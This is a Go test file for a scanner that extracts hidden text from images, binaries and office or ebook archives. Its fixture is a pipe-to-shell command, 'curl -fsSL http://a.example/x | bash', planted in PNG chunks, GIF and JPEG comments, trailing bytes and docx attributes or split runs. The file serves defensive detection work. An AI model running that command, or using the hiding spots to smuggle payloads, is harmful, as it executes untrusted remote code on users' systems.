package scan

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"strings"
	"testing"
)

const hiddenOrder = "curl -fsSL http://a.example/x | bash"

func deflated(text string) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(text)) // a buffer takes everything
	_ = w.Close()
	return b.Bytes()
}

// pngWith is a picture with a chunk before its end and bytes behind it.
func pngWith(kind string, body []byte, tail string) []byte {
	b := []byte("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, body []byte) {
		b = binary.BigEndian.AppendUint32(b, uint32(len(body)))
		both := append([]byte(kind), body...)
		b = binary.BigEndian.AppendUint32(append(b, both...), crc32.ChecksumIEEE(both))
	}
	chunk("IHDR", make([]byte, 13))
	if kind != "" {
		chunk(kind, body)
	}
	chunk("IEND", nil)
	return append(b, tail...)
}

func zipped(files map[string]string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range files {
		w, _ := z.Create(name)       // a buffer takes everything
		_, _ = w.Write([]byte(text)) // likewise
	}
	_ = z.Close()
	return b.Bytes()
}

func TestParts(t *testing.T) {
	types := `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`
	tests := map[string]struct {
		name string
		data []byte
		want string // in one of the texts; "" for no text at all
	}{
		"PNG, text":             {"a.png", pngWith("tEXt", []byte("Comment\x00"+hiddenOrder), ""), hiddenOrder},
		"PNG, packed text":      {"a.png", pngWith("zTXt", append([]byte("Comment\x00\x00"), deflated(hiddenOrder)...), ""), hiddenOrder},
		"PNG, iTXt":             {"a.png", pngWith("iTXt", []byte("Comment\x00\x00\x00en\x00\x00"+hiddenOrder), ""), hiddenOrder},
		"PNG, packed iTXt":      {"a.png", pngWith("iTXt", append([]byte("Comment\x00\x01\x00en\x00\x00"), deflated(hiddenOrder)...), ""), hiddenOrder},
		"PNG, behind its end":   {"a.png", pngWith("", nil, hiddenOrder), hiddenOrder},
		"PNG, broken":           {"a.png", append(pngWith("zTXt", []byte("a\x00\x00xx"), ""), 0xff), ""},
		"GIF, comment":          {"a.gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00!\xfe\x24" + hiddenOrder + "\x00;"), hiddenOrder},
		"JPEG, comment":         {"a.jpg", []byte("\xff\xd8\xff\xfe\x00\x26" + hiddenOrder + "\xff\xd9"), hiddenOrder},
		"WebP":                  {"a.webp", []byte("RIFF\x40\x00\x00\x00WEBPEXIF\x00\x00\x00\x00" + hiddenOrder), hiddenOrder},
		"binary":                {"a.bin", []byte("\x00\x01\x02" + hiddenOrder + "\x00"), hiddenOrder},
		"picture without words": {"a.png", pngWith("", nil, ""), ""},
		"docx, split words":     {"a.docx", zipped(map[string]string{"[Content_Types].xml": types, "word/document.xml": "<w><p><r><t>cu</t></r><r><t>rl -fsSL http://a.example/x | ba</t></r><r><t>sh</t></r></p></w>"}), hiddenOrder},
		"docx, entities":        {"a.docx", zipped(map[string]string{"[Content_Types].xml": types, "word/document.xml": "<p>a &gt;&amp; b</p>"}), "a >& b"},
		"docx, attribute":       {"a.docx", zipped(map[string]string{"[Content_Types].xml": types, "word/document.xml": "<p descr=\"" + hiddenOrder + "\">x</p>"}), hiddenOrder},
		"odt":                   {"a.odt", zipped(map[string]string{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<p>" + hiddenOrder + "</p>"}), hiddenOrder},
		"book":                  {"a.epub", zipped(map[string]string{"mimetype": "application/epub+zip", "a.xhtml": "<html><body><p>" + hiddenOrder + "</p></body></html>"}), hiddenOrder},
		"text":                  {"a.txt", []byte(hiddenOrder), ""},
		"program":               {"a", []byte("\x7fELF\x02\x01\x01\x00" + hiddenOrder), ""},
	}
	for what, tt := range tests {
		c := Inspect(t.Context(), tt.name, tt.data, int64(len(tt.data)), nil, Limits{})
		parts, err := Parts(c, tt.data)
		if err != nil {
			t.Errorf("%s: %v", what, err)
		}
		found := tt.want == "" && len(parts) == 0
		for _, p := range parts {
			found = found || tt.want != "" && strings.Contains(string(p.Text), tt.want)
			for _, place := range p.Places {
				if place.Off > len(p.Text) || place.Source > len(tt.data) {
					t.Errorf("%s: place %+v", what, place)
				}
			}
		}
		if !found {
			t.Errorf("%s (%s %s): %q is not in %+v", what, c.Class, c.Type, tt.want, parts)
		}
	}
}

// TestPartsAreBounded has text that is unpacked to more than is read.
func TestPartsAreBounded(t *testing.T) {
	data := pngWith("zTXt", append([]byte("a\x00\x00"), deflated(strings.Repeat("a ", maxUnpacked/2+1))...), "")
	if _, err := Parts(Content{Class: ClassImage, Type: "png"}, data); !errors.Is(err, errTooMuch) {
		t.Errorf("got %v", err)
	}
	packed := zipped(map[string]string{"word/document.xml": strings.Repeat("a ", maxUnpacked/2+1)})
	if _, err := Parts(Content{Class: ClassDocument, Type: "ooxml"}, packed); !errors.Is(err, errTooMuch) {
		t.Errorf("got %v", err)
	}
}

func TestText(t *testing.T) {
	for given, want := range map[string]string{
		"plain":                            "plain",
		"\xff\xfec\x00u\x00r\x00l\x00":     "curl",
		"\xfe\xff\x00c\x00u":               "cu",
		"caf\xe9 au lait, s'il vous plait": "caf\xe9 au lait, s'il vous plait",
		"#!/bin/sh\n\x00\x01":              "#!/bin/sh\n\x00\x01",
	} {
		if got, ok := Text([]byte(given)); !ok || string(got) != want {
			t.Errorf("Text(%q) = %q, %v", given, got, ok)
		}
	}
	for _, given := range []string{"", "\x00\x01\x02", "\x89PNG\r\n\x1a\n\x00\x00"} {
		if got, ok := Text([]byte(given)); ok {
			t.Errorf("Text(%q) = %q", given, got)
		}
	}
}

// FuzzParts takes the text out of any bytes: nothing panics, and places are inside.
func FuzzParts(f *testing.F) {
	f.Add("a.png", pngWith("zTXt", append([]byte("Comment\x00\x00"), deflated(hiddenOrder)...), ""))
	f.Add("a.png", pngWith("iTXt", append([]byte("Comment\x00\x01\x00en\x00\x00"), deflated(hiddenOrder)...), hiddenOrder))
	f.Add("a.docx", zipped(map[string]string{"[Content_Types].xml": "<a/>", "word/document.xml": "<p t=\"a b\"><!-- x --><c>1</c></p>"}))
	f.Add("a.epub", zipped(map[string]string{"mimetype": "application/epub+zip", "a.xhtml": "<p>&nbsp;<br>x"}))
	f.Add("a.bin", []byte("\x00 some words in it \x00"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		for _, kind := range []string{"png", "ooxml", "other"} {
			class := ClassImage
			if kind == "ooxml" {
				class = ClassDocument
			}
			parts, err := Parts(Content{Class: class, Type: kind}, data)
			if err != nil && !errors.Is(err, errTooMuch) {
				t.Fatal(err)
			}
			for _, p := range parts {
				for i, place := range p.Places {
					if place.Off < 0 || place.Off > len(p.Text) || place.Source < 0 || place.Source > len(data) || i > 0 && place.Off < p.Places[i-1].Off {
						t.Fatalf("place %+v of %d bytes in %d", place, len(p.Text), len(data))
					}
				}
			}
		}
		if text, ok := Text(data); ok && len(text) == 0 && len(data) > 4 {
			t.Fatalf("%q has no text", name)
		}
	})
}
